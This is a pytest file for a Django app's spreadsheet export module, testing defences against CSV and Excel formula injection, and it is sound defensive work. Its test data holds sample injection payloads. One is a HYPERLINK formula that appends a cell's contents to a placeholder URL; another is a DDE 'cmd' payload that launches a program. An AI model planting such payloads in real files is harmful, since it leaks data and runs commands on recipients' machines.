"""The one rule of every export (bureau.exports): a cell is data, never a formula, in CSV and in Excel."""

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.utils import timezone
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from bureau.exports import FORMULA_TRIGGERS, csv_lines, safe_cell, xlsx_bytes

PAYLOADS = [
    '=HYPERLINK("http://x"&D2,"详情")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def csv_cells(values):
    text = "".join(csv_lines(["列"] * len(values), [values]))
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    return rows[1]


def xlsx_cells(values):
    sheet = load_workbook(io.BytesIO(xlsx_bytes("表", ["列"] * len(values), [values]))).active
    return list(next(sheet.iter_rows(min_row=2, max_row=2)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [-1, -2.5, Decimal("-3.50"), 0, True, None, datetime.date(2026, 1, 5)])
def test_numbers_dates_and_empty_cells_stay_what_they_are(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("value", ["企业X", "13800000000", "a=b", "'=1", ""])
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


def test_a_control_character_cannot_hide_a_trigger():
    assert safe_cell("\x01=1") == "'=1"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_csv_cell_starts_with_a_quote(payload):
    assert csv_cells([payload]) == ["'" + payload]


@pytest.mark.parametrize("payload", [*PAYLOADS, "#DIV/0!", "#N/A"])
def test_the_xlsx_cell_is_text_not_a_formula_nor_an_error(payload):
    (cell,) = xlsx_cells([payload])

    assert cell.data_type == "s"
    if payload.startswith(FORMULA_TRIGGERS):
        assert cell.value.startswith("'")


def test_a_negative_number_stays_a_number_in_both_formats():
    assert csv_cells([-1, Decimal("-2.50")]) == ["-1", "-2.50"]
    assert [cell.value for cell in xlsx_cells([-1, -2.5])] == [-1, -2.5]


def test_an_aware_datetime_is_written_in_local_time():
    moment = timezone.make_aware(datetime.datetime(2026, 3, 1, 9, 30))

    (cell,) = xlsx_cells([moment])

    assert cell.value == datetime.datetime(2026, 3, 1, 9, 30)


# Hypothesis: whatever text a user stores, no cell of an export is a formula --------------------------------------


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40))
def test_no_text_becomes_a_formula_in_xlsx(text):
    (cell,) = xlsx_cells([text])

    assert cell.data_type != "f"
    assert not str(cell.value or "").startswith(("=", "+", "-", "@"))
    # Excel files carry "\r" as "\n": compare what survives the round trip.
    assert (cell.value or "") == safe_cell(text).replace("\r\n", "\n").replace("\r", "\n")


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.text(max_size=40), st.integers(), st.decimals(allow_nan=False)), min_size=1, max_size=4))
def test_no_csv_cell_starts_with_a_trigger(values):
    cells = csv_cells(values)

    for value, cell in zip(values, cells, strict=True):
        if isinstance(value, str):
            assert not cell.startswith(FORMULA_TRIGGERS)
            assert cell == safe_cell(value)
        else:
            assert cell == str(value)


# Every download goes through bureau.exports -----------------------------------------------------------------------

WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|\.cell\(\s*row=")
SOURCE_ROOTS = ["bureau", "grids", "enterprises", "hazards", "inspections"]


def test_no_module_writes_a_spreadsheet_except_bureau_exports():
    base = Path(__file__).resolve().parents[2]
    writers = sorted(
        str(path.relative_to(base))
        for root in SOURCE_ROOTS
        for path in (base / root).rglob("*.py")
        if "migrations" not in path.parts and WRITERS.search(path.read_text(encoding="utf-8"))
    )

    # The import template makes its own workbook (drop-down lists, column widths) but writes cells through xlsx_cell.
    assert writers == ["bureau/exports.py", "enterprises/importer/template.py"]
